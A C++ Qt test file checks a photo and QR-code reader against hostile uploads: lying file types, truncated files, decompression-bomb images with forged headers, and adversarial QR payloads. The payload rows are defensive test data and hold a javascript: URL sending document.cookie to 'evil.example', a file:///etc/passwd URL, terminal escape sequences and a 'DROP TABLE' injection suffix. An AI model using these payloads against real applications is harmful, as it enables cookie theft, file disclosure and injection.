// PhotoReader against what arrives from outside (uploads, WhatsApp, files): wrong or
// lying types, cut-off and corrupt files, decompression bombs, oversized input, and
// codes whose payloads are hostile. Never a crash, never a wrong identification, and
// what is shown of a payload is safe.

#include "codeimages.h"
#include "codes/photoreader.h"
#include "domain/qrpayload.h"
#include "domain/scannedcode.h"

#include <QBuffer>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QImageReader>
#include <QImageWriter>
#include <QPainter>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <array>

using namespace md;
using namespace md::codes;
using namespace md::domain;
using namespace Qt::StringLiterals;

namespace {

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QByteArray encode(const QImage &image, const char *format, int quality = -1)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    QImageWriter writer(&buffer, format);
    writer.setQuality(quality);
    return writer.write(image) ? bytes : QByteArray();
}

quint32 crc32(const QByteArray &data)
{
    static const std::array<quint32, 256> table = [] {
        std::array<quint32, 256> t{};
        for (quint32 n = 0; n < 256; ++n) {
            quint32 c = n;
            for (int k = 0; k < 8; ++k)
                c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
            t[n] = c;
        }
        return t;
    }();
    quint32 c = 0xFFFFFFFFu;
    for (const char byte : data)
        c = table[(c ^ quint8(byte)) & 0xFF] ^ (c >> 8);
    return c ^ 0xFFFFFFFFu;
}

QByteArray be32(quint32 v)
{
    const char bytes[4] = {char(v >> 24), char(v >> 16), char(v >> 8), char(v)};
    return QByteArray(bytes, 4);
}

QByteArray pngChunk(const QByteArray &type, const QByteArray &data)
{
    return be32(quint32(data.size())) + type + data + be32(crc32(type + data));
}

// A well-formed PNG (valid CRCs) whose header claims width × height, with a small IDAT:
// a decompression bomb as far as a decoder that trusts the header can tell.
QByteArray pngClaiming(quint32 width, quint32 height, int bitDepth = 8)
{
    QByteArray ihdr = be32(width) + be32(height);
    ihdr += char(bitDepth);
    ihdr += char(2); // RGB
    ihdr += QByteArray(3, '\0');
    const QByteArray zlib = qCompress(QByteArray(4096, '\0')).mid(4); // qCompress: 4-byte size
    return QByteArray("\x89PNG\r\n\x1a\n", 8) + pngChunk("IHDR", ihdr) + pngChunk("IDAT", zlib) +
           pngChunk("IEND", {});
}

// A real JPEG whose SOF0 header is patched to claim width × height.
QByteArray jpegClaiming(QByteArray jpeg, quint16 width, quint16 height)
{
    const qsizetype sof = jpeg.indexOf(QByteArray("\xFF\xC0", 2));
    if (sof < 0)
        return {};
    jpeg[sof + 5] = char(height >> 8);
    jpeg[sof + 6] = char(height);
    jpeg[sof + 7] = char(width >> 8);
    jpeg[sof + 8] = char(width);
    return jpeg;
}

bool hasControlOrFormatCharacter(const QString &text)
{
    for (const QChar c : text) {
        if (c.category() == QChar::Other_Control || c.category() == QChar::Other_Format)
            return true;
    }
    return false;
}

} // namespace

class TestPhotoReader final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void allocationLimitIsLowered();
    void readsJpegAndPng_data();
    void readsJpegAndPng();
    void typeMustMatchContent_data();
    void typeMustMatchContent();
    void fileNamesAreClaimsToo();
    void unreadableInput_data();
    void unreadableInput();
    void trailerAfterJpegEndIsAccepted();
    void tooLarge_data();
    void tooLarge();
    void lyingJpegHeaderDoesNotCrash();
    void largePhotosAreDecodedScaled();
    void hostilePayloads_data();
    void hostilePayloads();
    void clipboardImages();
    void concurrentReadsAgree();

private:
    QTemporaryDir m_dir;
    std::unique_ptr<test::CodeImages> m_images;
    QString m_code;
    QByteArray m_png;         // a qrencode label of m_code
    QByteArray m_jpeg;        // the same as JPEG (ImageMagick)
    QByteArray m_progressive; // and as a progressive JPEG
};

void TestPhotoReader::initTestCase()
{
    if (const QString missing = test::CodeImages::missingTools(); !missing.isEmpty())
        QSKIP(qPrintable(u"not installed: "_s + missing));
    QVERIFY(m_dir.isValid());
    m_images = std::make_unique<test::CodeImages>(m_dir.path());
    m_code = QrPayload::generateCode();
    const QString png = m_images->qrPng(m_code, 6, u"label.png"_s);
    QVERIFY2(!png.isEmpty(), qPrintable(m_images->lastError()));
    const QString jpeg = m_images->magick(png, {u"-quality"_s, u"85"_s}, u"label.jpg"_s);
    QVERIFY2(!jpeg.isEmpty(), qPrintable(m_images->lastError()));
    const QString progressive = m_images->magick(
        png, {u"-interlace"_s, u"Plane"_s, u"-quality"_s, u"85"_s}, u"progressive.jpg"_s);
    QVERIFY2(!progressive.isEmpty(), qPrintable(m_images->lastError()));
    m_png = readAll(png);
    m_jpeg = readAll(jpeg);
    m_progressive = readAll(progressive);
    // Progressive: several scans (SOS) with tables between them, each walked to its end.
    QVERIFY(m_progressive.count(QByteArray("\xFF\xDA", 2)) > 1);
    QVERIFY(m_png.startsWith("\x89PNG"));
    QVERIFY(m_jpeg.startsWith("\xFF\xD8\xFF"));
}

void TestPhotoReader::allocationLimitIsLowered()
{
    // Qt's default lets a decoder allocate 128 MiB; a photo needs at most a
    // 4000 × 4000 RGB32 image (61.04 MiB, rounded up).
    QCOMPARE(PhotoReader::read(m_png).status, PhotoStatus::Found);
    QCOMPARE(QImageReader::allocationLimit(), 62);
}

void TestPhotoReader::readsJpegAndPng_data()
{
    QTest::addColumn<QByteArray>("format");
    QTest::addColumn<QByteArray>("bytes");
    QTest::newRow("png") << QByteArray("png") << m_png;
    QTest::newRow("PNG") << QByteArray("PNG") << m_png;
    QTest::newRow("image/png") << QByteArray("image/png") << m_png;
    QTest::newRow("png, sniffed") << QByteArray() << m_png;
    QTest::newRow("jpeg") << QByteArray("jpeg") << m_jpeg;
    QTest::newRow("jpg") << QByteArray("jpg") << m_jpeg;
    QTest::newRow("image/jpeg") << QByteArray("image/jpeg") << m_jpeg;
    QTest::newRow("jpeg, sniffed") << QByteArray() << m_jpeg;
    QTest::newRow("progressive jpeg") << QByteArray("jpeg") << m_progressive;
}

void TestPhotoReader::readsJpegAndPng()
{
    QFETCH(QByteArray, format);
    QFETCH(QByteArray, bytes);
    const PhotoResult result = PhotoReader::read(bytes, format);
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.codes.size(), 1);
    QCOMPARE(ScannedCode::classify(result.codes.first().text).labelCode, m_code);
    QCOMPARE(result.imageSize, QImage::fromData(m_png).size());
    QVERIFY(result.detail.isEmpty());
}

void TestPhotoReader::typeMustMatchContent_data()
{
    QTest::addColumn<bool>("jpegBytes");
    QTest::addColumn<QByteArray>("format");
    QTest::newRow("JPEG sent as png") << true << QByteArray("png");
    QTest::newRow("PNG sent as jpeg") << false << QByteArray("jpeg");
    QTest::newRow("PNG sent as gif") << false << QByteArray("gif");
    QTest::newRow("PNG sent as svg") << false << QByteArray("image/svg+xml");
    QTest::newRow("JPEG sent as webp") << true << QByteArray("webp");
}

void TestPhotoReader::typeMustMatchContent()
{
    QFETCH(bool, jpegBytes);
    QFETCH(QByteArray, format);
    const PhotoResult result = PhotoReader::read(jpegBytes ? m_jpeg : m_png, format);
    QCOMPARE(result.status, PhotoStatus::Unreadable);
    QVERIFY(result.codes.isEmpty());
    QVERIFY(!result.detail.isEmpty());
}

void TestPhotoReader::fileNamesAreClaimsToo()
{
    const QString dir = m_dir.path();
    auto write = [&](const QString &name, const QByteArray &bytes) {
        QFile file(QDir(dir).filePath(name));
        if (!file.open(QIODevice::WriteOnly) || file.write(bytes) != bytes.size())
            return QString();
        return file.fileName();
    };
    QCOMPARE(PhotoReader::readFile(write(u"renamed.png"_s, m_jpeg)).status,
             PhotoStatus::Unreadable);
    QCOMPARE(PhotoReader::readFile(write(u"renamed.JPG"_s, m_png)).status, PhotoStatus::Unreadable);
    QCOMPARE(PhotoReader::readFile(write(u"right.JPEG"_s, m_jpeg)).status, PhotoStatus::Found);
    // Any other name: the content decides.
    QCOMPARE(PhotoReader::readFile(write(u"upload.bin"_s, m_png)).status, PhotoStatus::Found);
    QCOMPARE(PhotoReader::readFile(write(u"noextension"_s, m_jpeg)).status, PhotoStatus::Found);
    QCOMPARE(PhotoReader::readFile(QDir(dir).filePath(u"missing.png"_s)).status,
             PhotoStatus::Unreadable);
    QCOMPARE(PhotoReader::readFile(dir).status, PhotoStatus::Unreadable); // a directory
}

void TestPhotoReader::unreadableInput_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QByteArray>("format");

    QRandomGenerator random(4242);
    auto randomBytes = [&random](int n) {
        QByteArray b(n, Qt::Uninitialized);
        for (char &c : b)
            c = char(random.bounded(256));
        return b;
    };
    QTest::newRow("zero bytes") << QByteArray() << QByteArray();
    QTest::newRow("zero bytes as png") << QByteArray() << QByteArray("png");
    QTest::newRow("random bytes") << randomBytes(50'000) << QByteArray();
    QTest::newRow("random bytes as jpeg") << randomBytes(50'000) << QByteArray("jpeg");
    QTest::newRow("JPEG magic + random")
        << QByteArray("\xFF\xD8\xFF", 3) + randomBytes(50'000) << QByteArray("jpeg");
    QTest::newRow("PNG signature + random")
        << QByteArray("\x89PNG\r\n\x1a\n", 8) + randomBytes(50'000) << QByteArray("png");
    QTest::newRow("PNG signature only") << QByteArray("\x89PNG\r\n\x1a\n", 8) << QByteArray();
    QTest::newRow("JPEG SOI only") << QByteArray("\xFF\xD8\xFF", 3) << QByteArray();
    QTest::newRow("GIF") << QByteArray("GIF89a\x01\x00\x01\x00\x00\x00\x00;", 14) << QByteArray();
    QTest::newRow("HTML") << QByteArray("<html><script>alert(1)</script></html>") << QByteArray();
    for (const double cut : {0.1, 0.5, 0.9}) {
        QTest::addRow("JPEG cut at %d %%", int(cut * 100))
            << m_jpeg.left(qsizetype(m_jpeg.size() * cut)) << QByteArray("jpeg");
        QTest::addRow("PNG cut at %d %%", int(cut * 100))
            << m_png.left(qsizetype(m_png.size() * cut)) << QByteArray("png");
    }
    QTest::newRow("JPEG without its EOI") << m_jpeg.chopped(2) << QByteArray("jpeg");
    QTest::newRow("PNG without IEND") << m_png.chopped(12) << QByteArray("png");
    QByteArray flipped = m_png;
    flipped[flipped.size() / 2] = char(flipped[flipped.size() / 2] ^ 0x55); // bad CRC, bad data
    QTest::newRow("PNG with a corrupt IDAT") << flipped << QByteArray("png");
    QByteArray noIhdr = m_png;
    noIhdr.replace(12, 4, "ABCD");
    QTest::newRow("PNG without IHDR") << noIhdr << QByteArray("png");
    QTest::newRow("PNG of 0 × 0") << pngClaiming(0, 0) << QByteArray("png");
}

void TestPhotoReader::unreadableInput()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QByteArray, format);
    const PhotoResult result = PhotoReader::read(bytes, format);
    QCOMPARE(result.status, PhotoStatus::Unreadable);
    QVERIFY(result.codes.isEmpty());
    QVERIFY(!result.detail.isEmpty());
}

void TestPhotoReader::trailerAfterJpegEndIsAccepted()
{
    // Phones append data after the image's EOI (Samsung's "SEFT" trailer, motion-photo
    // video); an EXIF thumbnail carries its own EOI inside APP1. Neither is truncation.
    const QByteArray withTrailer = m_jpeg + QByteArray("SEFT") + QByteArray(3000, '\x11');
    QCOMPARE(PhotoReader::read(withTrailer, "jpeg").status, PhotoStatus::Found);
    const QByteArray thumbnail = encode(QImage::fromData(m_png).scaled(32, 32), "jpeg");
    QByteArray app1 = QByteArray("Exif\0\0", 6) + thumbnail;
    const quint16 length = quint16(app1.size() + 2);
    const QByteArray segment = QByteArray("\xFF\xE1", 2) + char(length >> 8) + char(length) + app1;
    const QByteArray withExif = m_jpeg.left(2) + segment + m_jpeg.mid(2);
    QCOMPARE(PhotoReader::read(withExif, "jpeg").status, PhotoStatus::Found);
    // ... but cut before the main image's EOI, the thumbnail's EOI does not count.
    QCOMPARE(PhotoReader::read(withExif.left(withExif.size() * 3 / 4), "jpeg").status,
             PhotoStatus::Unreadable);
}

void TestPhotoReader::tooLarge_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<qint64>("maxBytes");
    QTest::addColumn<qint64>("maxPixels");

    const PhotoLimits defaults;
    QTest::newRow("PNG claiming 100000 × 100000")
        << pngClaiming(100'000, 100'000) << defaults.maxBytes << defaults.maxPixels;
    QTest::newRow("PNG claiming 2^31-1 × 2^31-1")
        << pngClaiming(0x7FFFFFFF, 0x7FFFFFFF) << defaults.maxBytes << defaults.maxPixels;
    // Within maxPixels, but a PNG has no scaled decoding: 8000 × 8000 RGB32 is 244 MiB.
    QTest::newRow("PNG of 8000 × 8000")
        << pngClaiming(8000, 8000) << defaults.maxBytes << defaults.maxPixels;
    QTest::newRow("16-bit PNG of 3000 × 3000 (RGBA64)")
        << pngClaiming(3000, 3000, 16) << defaults.maxBytes << defaults.maxPixels;
    QTest::newRow("JPEG claiming 60000 × 60000")
        << jpegClaiming(m_jpeg, 60000, 60000) << defaults.maxBytes << defaults.maxPixels;
    QTest::newRow("10 MiB + 1 byte")
        << QByteArray(defaults.maxBytes + 1, '\xFF') << defaults.maxBytes << defaults.maxPixels;
    QTest::newRow("label over a 100-byte limit") << m_png << qint64(100) << defaults.maxPixels;
    QTest::newRow("label over a 10,000-pixel limit")
        << m_png << defaults.maxBytes << qint64(10'000);
}

void TestPhotoReader::tooLarge()
{
    QFETCH(QByteArray, bytes);
    QFETCH(qint64, maxBytes);
    QFETCH(qint64, maxPixels);
    PhotoLimits limits;
    limits.maxBytes = maxBytes;
    limits.maxPixels = maxPixels;
    const PhotoResult result = PhotoReader::read(bytes, {}, limits);
    QCOMPARE(result.status, PhotoStatus::TooLarge);
    QVERIFY(result.codes.isEmpty());
    QVERIFY(!result.detail.isEmpty());

    // The same through a file: the size is checked before the file is read.
    const QString path = QDir(m_dir.path()).filePath(u"large.bin"_s);
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
    file.close();
    QCOMPARE(PhotoReader::readFile(path, limits).status, PhotoStatus::TooLarge);
}

void TestPhotoReader::lyingJpegHeaderDoesNotCrash()
{
    // 9000 × 7000 fits every limit (decoded at 3/8), but the data is a 200-pixel label's:
    // libjpeg runs out of data. Whatever it makes of it, no code and no crash.
    const QByteArray lying = jpegClaiming(m_jpeg, 9000, 7000);
    QVERIFY(!lying.isEmpty());
    const PhotoResult result = PhotoReader::read(lying, "jpeg");
    QVERIFY(result.status == PhotoStatus::NoCode || result.status == PhotoStatus::Unreadable);
    QVERIFY(result.codes.isEmpty());
}

void TestPhotoReader::largePhotosAreDecodedScaled()
{
    // A phone photo, 4032 × 3024, with the label at 12 % of the width, and the same with
    // a label of 84 px (2 %, about 2.5 px per module).
    auto phonePhoto = [this](QRect where) {
        QImage photo(4032, 3024, QImage::Format_RGB32);
        photo.fill(QColor(110, 104, 96));
        QPainter painter(&photo);
        painter.drawImage(where, QImage::fromData(m_png));
        painter.end();
        return encode(photo, "jpeg", 90);
    };
    const QRect big(1700, 1300, 480, 480);
    const QByteArray jpeg = phonePhoto(big);
    QVERIFY(!jpeg.isEmpty());

    // First decoded at 1/2 (2016 × 1512): the label reads there.
    PhotoResult result = PhotoReader::read(jpeg, "jpeg");
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.imageSize, QSize(2016, 1512));
    QCOMPARE(ScannedCode::classify(result.codes.first().text).labelCode, m_code);
    // Corners are in the decoded image's pixels.
    const QRectF half(big.x() / 2.0, big.y() / 2.0, big.width() / 2.0, big.height() / 2.0);
    for (const QPointF &corner : result.codes.first().corners)
        QVERIFY(half.adjusted(-3, -3, 3, 3).contains(corner));

    // A small label is not resolved at 1/2: decoded again at the largest size within
    // maxDecodedEdge — 4032 > 4000, so libjpeg's 7/8 (3528 × 2646), no resampling after.
    const QRect small(2100, 900, 84, 84);
    result = PhotoReader::read(phonePhoto(small), "jpeg");
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.imageSize, QSize(3528, 2646));
    QCOMPARE(ScannedCode::classify(result.codes.first().text).labelCode, m_code);
    const QRectF sevenEighths(small.x() * 7.0 / 8, small.y() * 7.0 / 8, small.width() * 7.0 / 8,
                              small.height() * 7.0 / 8);
    for (const QPointF &corner : result.codes.first().corners)
        QVERIFY(sevenEighths.adjusted(-3, -3, 3, 3).contains(corner));

    PhotoLimits limits;
    limits.maxDecodedEdge = 1600; // 4032 × 3/8 = 1512
    result = PhotoReader::read(jpeg, "jpeg", limits);
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.imageSize, QSize(1512, 1134));

    // A PNG is decoded whole, then scaled to the limit; so it may not need more memory
    // than a maxDecodedEdge² image.
    QImage photo(1800, 1200, QImage::Format_RGB32);
    photo.fill(QColor(110, 104, 96));
    QPainter(&photo).drawImage(QRect(700, 500, 240, 240), QImage::fromData(m_png));
    const QByteArray png = encode(photo, "png");
    limits.maxDecodedEdge = 1500;
    result = PhotoReader::read(png, "png", limits);
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.imageSize, QSize(1500, 1000));
    limits.maxDecodedEdge = 1000;
    QCOMPARE(PhotoReader::read(png, "png", limits).status, PhotoStatus::TooLarge);
}

void TestPhotoReader::hostilePayloads_data()
{
    QTest::addColumn<QString>("payload");
    QTest::addColumn<ScannedCode::Kind>("kind");

    using K = ScannedCode::Kind;
    const QString code = QrPayload::generateCode();
    QString long4000;
    while (long4000.size() < 4000)
        long4000 += u"HOSTILE PAYLOAD 0123456789 "_s;
    long4000.truncate(4000);
    QTest::newRow("4,000 characters of text") << long4000 << K::Other;
    QTest::newRow("our link path on another host")
        << u"https://evil.example/e/"_s + code << K::Label;
    QTest::newRow("our link with a query")
        << u"https://evil.example/e/"_s + code + u"?next=/x"_s << K::Other;
    QTest::newRow("javascript: URL")
        << u"javascript:fetch('//evil.example/'+document.cookie)"_s << K::Other;
    QTest::newRow("file: URL") << u"file:///etc/passwd"_s << K::Other;
    QTest::newRow("control characters")
        << u"\u0001\u0007\u001B[2J\u001B]0;pwned\u0007"_s + code << K::Other;
    QTest::newRow("code with trailing junk") << code + u" ; DROP TABLE equipment"_s << K::Other;
    QTest::newRow("RTL override") << u"\u202E"_s + code + u"\u202C"_s << K::Other;
    QTest::newRow("look-alike Cyrillic letters") << QString(code).replace(u'M', u'М') << K::Other;
    QTest::newRow("code, lower case, padded") << u"  "_s + code.toLower() + u" "_s << K::Label;
    QTest::newRow("GS1 UDI in a QR code") << u"(01)00844588003288(21)SN42"_s << K::Udi;
}

void TestPhotoReader::hostilePayloads()
{
    QFETCH(QString, payload);
    QFETCH(ScannedCode::Kind, kind);
    // qrencode directly: CodeImages uses level Q, and 4,000 characters need level L.
    static int counter = 0;
    const QString path = QDir(m_dir.path()).filePath(u"hostile-%1.png"_s.arg(++counter));
    QProcess qrencode;
    qrencode.start(u"qrencode"_s,
                   {u"-l"_s, u"L"_s, u"-s"_s, u"3"_s, u"-o"_s, path, u"--"_s, payload});
    QVERIFY(qrencode.waitForFinished(30000));
    QCOMPARE(qrencode.exitCode(), 0);

    const PhotoResult result = PhotoReader::readFile(path);
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(result.codes.size(), 1);
    QCOMPARE(result.codes.first().text, payload); // read exactly, nothing lost or added
    const ScannedCode scanned = ScannedCode::classify(result.codes.first().text);
    QCOMPARE(scanned.kind, kind);
    if (kind == ScannedCode::Kind::Label)
        QCOMPARE(scanned.labelCode, QrPayload::parse(payload).value());
    QVERIFY(scanned.payload.size() <= 4096);
    const QString shown = scanned.displayText();
    QVERIFY(shown.size() <= 80);
    QVERIFY2(!hasControlOrFormatCharacter(shown), qPrintable(shown));
    if (payload.size() > 80)
        QVERIFY(shown.contains(QChar(0x2026)));
}

void TestPhotoReader::clipboardImages()
{
    const QImage label = QImage::fromData(m_png);
    PhotoResult result = PhotoReader::read(label);
    QCOMPARE(result.status, PhotoStatus::Found);
    QCOMPARE(ScannedCode::classify(result.codes.first().text).labelCode, m_code);
    QCOMPARE(PhotoReader::read(QImage()).status, PhotoStatus::NoCode);

    // A screenshot of a wide screen setup: decoded within the same bound as files.
    QImage wide(9000, 900, QImage::Format_RGB32);
    wide.fill(Qt::white);
    QPainter(&wide).drawImage(4000, 100, label.scaled(700, 700));
    result = PhotoReader::read(wide);
    QCOMPARE(result.imageSize, QSize(4000, 400));
    QCOMPARE(result.status, PhotoStatus::Found);
}

void TestPhotoReader::concurrentReadsAgree()
{
    // The server reads photos on a thread pool: the same inputs on four threads at once
    // give the same answers as one after the other.
    QImage photo(1600, 1200, QImage::Format_RGB32);
    photo.fill(QColor(90, 90, 90));
    QPainter(&photo).drawImage(600, 400, QImage::fromData(m_png).scaled(300, 300));
    const QList<QByteArray> inputs = {m_png, m_jpeg, encode(photo, "jpeg", 80),
                                      m_jpeg.left(m_jpeg.size() / 2),
                                      pngClaiming(100'000, 100'000)};
    QList<PhotoStatus> expected;
    for (const QByteArray &bytes : inputs)
        expected << PhotoReader::read(bytes).status;
    QCOMPARE(expected,
             (QList<PhotoStatus>{PhotoStatus::Found, PhotoStatus::Found, PhotoStatus::Found,
                                 PhotoStatus::Unreadable, PhotoStatus::TooLarge}));

    std::atomic<int> mismatches = 0;
    std::atomic<int> wrongCodes = 0;
    QList<QThread *> threads;
    for (int t = 0; t < 4; ++t) {
        threads << QThread::create([&, t] {
            for (int round = 0; round < 5; ++round) {
                for (int i = 0; i < inputs.size(); ++i) {
                    const int k = (i + t + round) % inputs.size();
                    const PhotoResult r = PhotoReader::read(inputs[k]);
                    if (r.status != expected[k])
                        ++mismatches;
                    for (const FoundCode &code : r.codes) {
                        if (ScannedCode::classify(code.text).labelCode != m_code)
                            ++wrongCodes;
                    }
                }
            }
        });
        threads.last()->start();
    }
    for (QThread *thread : std::as_const(threads)) {
        QVERIFY(thread->wait(120000));
        delete thread;
    }
    QCOMPARE(mismatches.load(), 0);
    QCOMPARE(wrongCodes.load(), 0);
}

QTEST_GUILESS_MAIN(TestPhotoReader)
#include "tst_photoreader.moc"
